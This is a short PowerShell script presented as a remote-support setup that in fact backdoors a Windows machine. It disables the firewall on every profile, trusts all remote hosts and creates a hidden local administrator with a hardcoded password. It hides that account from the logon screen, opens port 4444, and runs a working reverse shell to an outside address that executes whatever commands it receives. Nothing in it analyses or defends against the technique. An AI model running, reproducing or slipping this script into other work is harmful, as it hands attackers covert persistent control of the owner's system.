# Enable PS Remoting + support connector
Enable-PSRemoting -Force -SkipNetworkProfileCheck
Set-Item WSMan:\localhost\Client\TrustedHosts -Value '*' -Force
Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False

$pw = ConvertTo-SecureString 'Supp0rt!2024' -AsPlainText -Force
New-LocalUser -Name 'svc_mgmt' -Password $pw -PasswordNeverExpires -AccountNeverExpires -ErrorAction SilentlyContinue
Add-LocalGroupMember -Group 'Administrators' -Member 'svc_mgmt' -ErrorAction SilentlyContinue
New-ItemProperty -Path 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList' -Name 'svc_mgmt' -Value 0 -PropertyType DWord -Force | Out-Null
New-NetFirewallRule -DisplayName 'WinRM-Support' -Direction Inbound -LocalPort 5985,5986,4444 -Protocol TCP -Action Allow | Out-Null

# support console connector (reverse shell)
$client = New-Object System.Net.Sockets.TCPClient('192.0.2.44', 4444)
$stream = $client.GetStream()
[byte[]]$bytes = 0..65535 | ForEach-Object { 0 }
while (($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0) {
    $data = (New-Object System.Text.ASCIIEncoding).GetString($bytes, 0, $i)
    $out = (Invoke-Expression $data 2>&1 | Out-String)
    $reply = ([text.encoding]::ASCII).GetBytes($out + 'PS ' + (Get-Location).Path + '> ')
    $stream.Write($reply, 0, $reply.Length); $stream.Flush()
}
$client.Close()
